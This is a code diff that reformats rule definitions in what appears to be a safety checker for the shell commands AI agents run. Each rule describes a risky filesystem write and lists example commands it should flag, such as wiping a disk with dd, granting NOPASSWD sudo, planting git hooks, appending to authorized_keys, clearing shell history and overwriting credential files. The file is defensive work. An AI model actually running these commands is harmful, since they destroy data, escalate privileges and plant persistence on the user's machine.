@@ -5,7 +5,12 @@ function writers(is: readonly TargetClass[]): readonly Matcher[] {
   return [
     { program: ['*'], targets: { of: 'written', is } },
     { program: ['tee', 'sponge', 'touch'], targets: { of: 'operands', is } },
-    { program: ['cp', 'mv', 'install', 'rsync', 'scp', 'ln'], lacks: ['--help|-n|--dry-run'], operands: [2, 999], targets: { of: 'last', is } },
+    {
+      program: ['cp', 'mv', 'install', 'rsync', 'scp', 'ln'],
+      lacks: ['--help|-n|--dry-run'],
+      operands: [2, 999],
+      targets: { of: 'last', is },
+    },
     { program: ['cp', 'mv', 'install', 'ln'], targets: { of: 'option:-t|--target-directory', is } },
     { program: ['dd'], targets: { of: 'key:of', is } },
     { program: ['sed', 'gsed', 'perl'], has: ['-i|--in-place'], targets: { of: 'operands', is } },
@@ -26,7 +31,12 @@ export const writes = definePack('filesystem', [
     reason: 'writes over the device {target}; what is on it is lost',
     safer: 'lsblk',
     examples: {
-      matches: ['dd if=/dev/zero of=/dev/sda', 'cat image.iso > /dev/sdb', 'echo x | tee /dev/nvme0n1', 'cp image.img /dev/mmcblk0'],
+      matches: [
+        'dd if=/dev/zero of=/dev/sda',
+        'cat image.iso > /dev/sdb',
+        'echo x | tee /dev/nvme0n1',
+        'cp image.img /dev/mmcblk0',
+      ],
       not: ['dd if=/dev/zero of=/tmp/img bs=1M count=1', 'echo hi > /dev/null', 'echo hi > /dev/stderr'],
     },
   },
@@ -39,8 +49,13 @@ export const writes = definePack('filesystem', [
     reason: 'changes {target}, which decides who may do what on this machine',
     safer: 'cat /etc/group',
     examples: {
-      matches: ["echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", 'cp p /etc/passwd', 'echo b > /proc/sysrq-trigger', "sed -i 's/a/b/' /etc/sudoers"],
-      not: ['cat /etc/passwd', "grep root /etc/group", 'echo sudoers > notes.txt'],
+      matches: [
+        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+        'cp p /etc/passwd',
+        'echo b > /proc/sysrq-trigger',
+        "sed -i 's/a/b/' /etc/sudoers",
+      ],
+      not: ['cat /etc/passwd', 'grep root /etc/group', 'echo sudoers > notes.txt'],
     },
   },
   {
@@ -51,7 +66,10 @@ export const writes = definePack('filesystem', [
     when: writers(['vcs']),
     reason: 'writes over {target}, where git keeps the history',
     safer: 'git status',
-    examples: { matches: ['echo x > .git/objects/aa', 'cp /dev/null .git/index', 'echo ref > .git/HEAD'], not: ['cat .git/HEAD', 'echo x > .github/a', 'git add .'] },
+    examples: {
+      matches: ['echo x > .git/objects/aa', 'cp /dev/null .git/index', 'echo ref > .git/HEAD'],
+      not: ['cat .git/HEAD', 'echo x > .github/a', 'git add .'],
+    },
   },
   {
     id: 'write-vcs-control',
@@ -60,7 +78,14 @@ export const writes = definePack('filesystem', [
     when: writers(['vcs-control']),
     reason: 'changes {target}, which git runs or obeys at the next command',
     safer: 'git config --list',
-    examples: { matches: ["echo 'x' > .git/hooks/pre-commit", 'cp hook.sh .git/hooks/post-checkout', "sed -i 's/a/b/' .git/config"], not: ['cat .git/config', 'ls .git/hooks'] },
+    examples: {
+      matches: [
+        "echo 'x' > .git/hooks/pre-commit",
+        'cp hook.sh .git/hooks/post-checkout',
+        "sed -i 's/a/b/' .git/config",
+      ],
+      not: ['cat .git/config', 'ls .git/hooks'],
+    },
   },
   {
     id: 'write-system',
@@ -70,7 +95,12 @@ export const writes = definePack('filesystem', [
     reason: 'changes {target}, a file of the operating system',
     safer: 'cp /etc/hosts /tmp/hosts',
     examples: {
-      matches: ["echo '1.2.3.4 a' >> /etc/hosts", 'cp tool /usr/bin/tool', 'wget -O /usr/x.py http://a.b/x.py', 'echo 0 > /proc/sys/kernel/yama/ptrace_scope'],
+      matches: [
+        "echo '1.2.3.4 a' >> /etc/hosts",
+        'cp tool /usr/bin/tool',
+        'wget -O /usr/x.py http://a.b/x.py',
+        'echo 0 > /proc/sys/kernel/yama/ptrace_scope',
+      ],
       not: ['cat /etc/hosts', 'cp /etc/hosts .', 'ls > /tmp/out', 'cp /usr/share/dict/words words'],
     },
   },
@@ -82,7 +112,12 @@ export const writes = definePack('filesystem', [
     reason: 'changes {target}, which runs or decides access at every login',
     safer: 'cat ~/.profile',
     examples: {
-      matches: ["echo 'alias ls=x' >> ~/.bashrc", 'cat key.pub >> ~/.ssh/authorized_keys', 'ln -sf /dev/null ~/.bash_history', 'curl https://a.b/c > ~/.zshrc'],
+      matches: [
+        "echo 'alias ls=x' >> ~/.bashrc",
+        'cat key.pub >> ~/.ssh/authorized_keys',
+        'ln -sf /dev/null ~/.bash_history',
+        'curl https://a.b/c > ~/.zshrc',
+      ],
       not: ['cat ~/.bashrc', 'grep PATH ~/.profile', 'cp ~/.bashrc /tmp/b', 'echo x > bashrc.txt'],
     },
   },
@@ -93,7 +128,10 @@ export const writes = definePack('filesystem', [
     when: writers(['secret']).map((matcher) => ({ ...matcher, place: 'local' as const })),
     reason: 'writes over {target}, which holds keys or credentials',
     safer: 'ls -la ~/.ssh',
-    examples: { matches: ['echo x > ~/.ssh/id_rsa', 'cp other ~/.aws/credentials'], not: ['ssh-keygen -lf ~/.ssh/id_rsa.pub', 'ls ~/.ssh', 'echo x > key.md'] },
+    examples: {
+      matches: ['echo x > ~/.ssh/id_rsa', 'cp other ~/.aws/credentials'],
+      not: ['ssh-keygen -lf ~/.ssh/id_rsa.pub', 'ls ~/.ssh', 'echo x > key.md'],
+    },
   },
   {
     id: 'write-tooling',
@@ -102,7 +140,10 @@ export const writes = definePack('filesystem', [
     when: writers(['tooling']),
     reason: 'changes {target}, which names programs that agents start by themselves',
     safer: 'cat .mcp.json',
-    examples: { matches: ["echo '{}' > .mcp.json", "sed -i 's/a/b/' .cursor/mcp.json"], not: ['cat .mcp.json', 'echo x > mcp.md', 'cp .mcp.json /tmp/m.json'] },
+    examples: {
+      matches: ["echo '{}' > .mcp.json", "sed -i 's/a/b/' .cursor/mcp.json"],
+      not: ['cat .mcp.json', 'echo x > mcp.md', 'cp .mcp.json /tmp/m.json'],
+    },
   },
   {
     id: 'download-instructions',
@@ -112,7 +153,12 @@ export const writes = definePack('filesystem', [
     when: [
       { program: ['curl', 'wget'], http: { output: ['instructions'] } },
       { program: ['curl', 'wget', 'http', 'xh'], targets: { of: 'written', is: ['instructions'] } },
-      { program: ['cp', 'mv'], operands: [2, 2], targets: { of: 'last', is: ['instructions'] }, words: ['/tmp/*|/var/tmp/*|/dev/shm/*'] },
+      {
+        program: ['cp', 'mv'],
+        operands: [2, 2],
+        targets: { of: 'last', is: ['instructions'] },
+        words: ['/tmp/*|/var/tmp/*|/dev/shm/*'],
+      },
     ],
     about: 'operands',
     reason: 'puts text from outside where agents or the build take their orders from',
